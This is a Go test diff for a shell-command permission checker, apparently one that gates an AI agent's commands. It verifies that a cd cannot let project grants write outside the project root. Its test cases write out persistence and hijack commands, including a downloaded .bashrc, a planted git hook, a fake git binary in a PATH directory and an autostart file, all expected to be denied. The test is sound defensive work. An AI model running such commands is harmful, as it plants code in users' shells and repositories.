@@ -66,3 +66,46 @@ func TestCommonGrantsKeepTheirPromise(t *testing.T) {
 		}
 	}
 }
+
+// TestCdRelativeWritesJudgedAgainstTheProject: after a cd, a relative name is
+// where the cd went; whether that is inside the project is judged against the
+// project's root (Settings.Root, as Load sets it), so cd ~ or cd .git/hooks
+// cannot make a '*' grant write a dotfile, a hook or a PATH directory.
+func TestCdRelativeWritesJudgedAgainstTheProject(t *testing.T) {
+	if !classifyWorks() {
+		t.Skip("classify is a stub")
+	}
+	s := Defaults()
+	s.Composite = "each"
+	s.Root = "/home/u/proj"
+	for _, p := range commonGrants {
+		s.Rules = append(s.Rules, Rule{Kind: Allow, Pattern: p, Layer: LayerProjectGrants})
+	}
+	for _, tc := range []struct {
+		cmd   string
+		allow bool
+	}{
+		{"cd .git/hooks && cp ../../x pre-commit", false},
+		{"cd .git && cp /tmp/x config", false},
+		{"cd ~ && curl -O https://x/.bashrc", false},
+		{"cd ~ && rsync -a /tmp/x/ .", false},
+		{"cd /usr/local/bin && cp /tmp/x git", false},
+		{"cd ~/.config/autostart && cp /tmp/x x.desktop", false},
+		{"cd $HOME; tar -xf /tmp/x.tar", false},
+		// a cd inside the project, or back to its root from a subdirectory, stays allowed
+		{"cd src && cp a.go b.go", true},
+		{"cd src/pkg && cp ../../README.md doc.md", true},
+		{"cd /tmp && cp /home/u/proj/x y", true},
+	} {
+		v := Decide(classify.Analyze(tc.cmd, testOptions()), s)
+		if got := v.Decision == Allow; got != tc.allow {
+			t.Errorf("%q under the common grants: got %v (%s: %s), want allow=%v", tc.cmd, v.Decision, v.Rule, v.Reason, tc.allow)
+		}
+	}
+	// A subdirectory's command, judged with the root above it: cd .. stays inside.
+	o := testOptions()
+	o.Cwd = "/home/u/proj/web"
+	if v := Decide(classify.Analyze("cd .. && cp a b", o), s); v.Decision != Allow {
+		t.Errorf("cd .. && cp a b from a subdirectory: got %v (%s: %s), want allow", v.Decision, v.Rule, v.Reason)
+	}
+}
